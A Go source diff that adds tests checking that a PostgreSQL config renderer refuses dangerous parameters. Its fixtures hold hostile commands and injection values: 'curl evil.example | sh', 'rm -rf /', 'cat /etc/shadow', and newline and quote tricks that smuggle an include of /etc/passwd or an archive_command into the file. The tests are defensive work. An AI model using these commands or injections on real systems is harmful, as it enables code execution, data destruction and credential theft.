@@ -299,8 +299,8 @@ func pgUnquote(s string) (string, bool) {
 	var b strings.Builder
 	for i := 1; i < len(s)-1; i++ {
 		c := s[i]
-		switch {
-		case c == '\\':
+		switch c {
+		case '\\':
 			i++
 			switch e := s[i]; e {
 			case 'b':
@@ -319,11 +319,11 @@ func pgUnquote(s string) (string, bool) {
 					i++
 					v = v*8 + int(s[i]-'0')
 				}
-				b.WriteByte(byte(v))
+				b.WriteByte(byte(v)) //nolint:gosec // G115: like PostgreSQL, an octal escape above \377 keeps its low byte
 			default:
 				b.WriteByte(e)
 			}
-		case c == '\'':
+		case '\'':
 			i++ // the regexp guarantees the quote is doubled
 			b.WriteByte('\'')
 		default:
@@ -535,4 +535,88 @@ func TestParsersRejectInvalid(t *testing.T) {
 	assert.False(t, ok)
 	_, ok = pgUnquote("'a\nb'")
 	assert.False(t, ok)
+}
+
+// TestRefused: the names and values that can never reach postgresql.conf.
+func TestRefused(t *testing.T) {
+	for _, tc := range []struct {
+		name, value string
+		refused     bool
+	}{
+		{"work_mem", "64MB", false},
+		{"auto_explain.log_min_duration", "1s", false},
+		{"shared_preload_libraries", "pg_stat_statements,auto_explain", false},
+		{"shared_preload_libraries", "/var/lib/postgresql/data/evil", true},
+		{"session_preload_libraries", "../../../tmp/x", true},
+		{"jit_provider", "../x", true},
+		{"archive_library", "basic_archive", false},
+		{"include", "/etc/passwd", true},
+		{"include_dir", "/tmp", true},
+		{"include_if_exists", "/tmp/x.conf", true},
+		{"archive_command", "true", true},
+		{"restore_command", "cp %f %p", true},
+		{"archive_cleanup_command", "rm -rf /", true},
+		{"recovery_end_command", "sh -c id", true},
+		{"ssl_passphrase_command", "echo x", true},
+		{"dynamic_library_path", "/tmp", true},
+		{"", "x", true},
+		{"Work_mem", "1MB", true},
+		{"1abc", "x", true},
+		{"work_mem = 1MB\ninclude", "x", true},
+		{"a b", "x", true},
+		{"a=b", "x", true},
+		{"a#", "x", true},
+		{"a'", "x", true},
+	} {
+		got := Refused(tc.name, tc.value)
+		assert.Equal(t, tc.refused, got != "", "Refused(%q, %q) = %q", tc.name, tc.value, got)
+	}
+}
+
+// TestRenderLeavesOutRefusedSettings: an object that bypassed admission cannot put a line of its
+// own, a directive or a command into the file; the other settings stay.
+func TestRenderLeavesOutRefusedSettings(t *testing.T) {
+	conf := Render(Merge(nil, map[string]string{
+		"work_mem":                     "4MB",
+		"x = 1\narchive_command":       "id",
+		"include":                      "/etc/passwd",
+		"archive_command":              "curl evil.example | sh",
+		"shared_preload_libraries":     "/tmp/evil",
+		"application_name":             "a'\ninclude '/etc/passwd",
+		"log_line_prefix\ninclude_dir": "/tmp",
+		"ssl_passphrase_command":       "cat /etc/shadow",
+		"session_preload_libraries":    "auto_explain",
+		"custom.setting":               `\'; archive_command = 'id`,
+		"dynamic_library_path":         "/tmp",
+		"unix_socket_group = 'x' # ":   "y",
+		"local_preload_libraries":      "a,/b",
+		"recovery_end_command":         "id",
+		"restore_command":              "id",
+		"archive_cleanup_command":      "id",
+		"include_if_exists":            "/tmp/x",
+		"include_dir":                  "/tmp",
+		"jit_provider":                 "../../tmp/x",
+		"archive_library":              "/tmp/x",
+		"":                             "x",
+	}))
+	lines := strings.Split(strings.TrimSuffix(strings.TrimPrefix(conf, header), "\n"), "\n")
+	var names []string
+	for _, l := range lines {
+		name, _, ok := strings.Cut(l, " = ")
+		require.True(t, ok, "line %q", l)
+		names = append(names, name)
+	}
+	assert.Equal(t, []string{"application_name", "custom.setting", "session_preload_libraries", "work_mem"}, names)
+}
+
+// TestAdmissionRefusesTheSameParameters: the CRDs' rules on parameters name every parameter Refused
+// knows, so admission and the renderer agree.
+func TestAdmissionRefusesTheSameParameters(t *testing.T) {
+	for _, crd := range []string{"canopy.dev_stacks.yaml", "components.canopy.dev_databases.yaml"} {
+		data, err := os.ReadFile(filepath.Join("..", "..", "config", "crd", "bases", crd))
+		require.NoError(t, err)
+		for _, name := range slices.Concat(Directives, Commands, Libraries) {
+			assert.Contains(t, string(data), "'"+name+"'", "%s: no rule on spec parameters names %s", crd, name)
+		}
+	}
 }
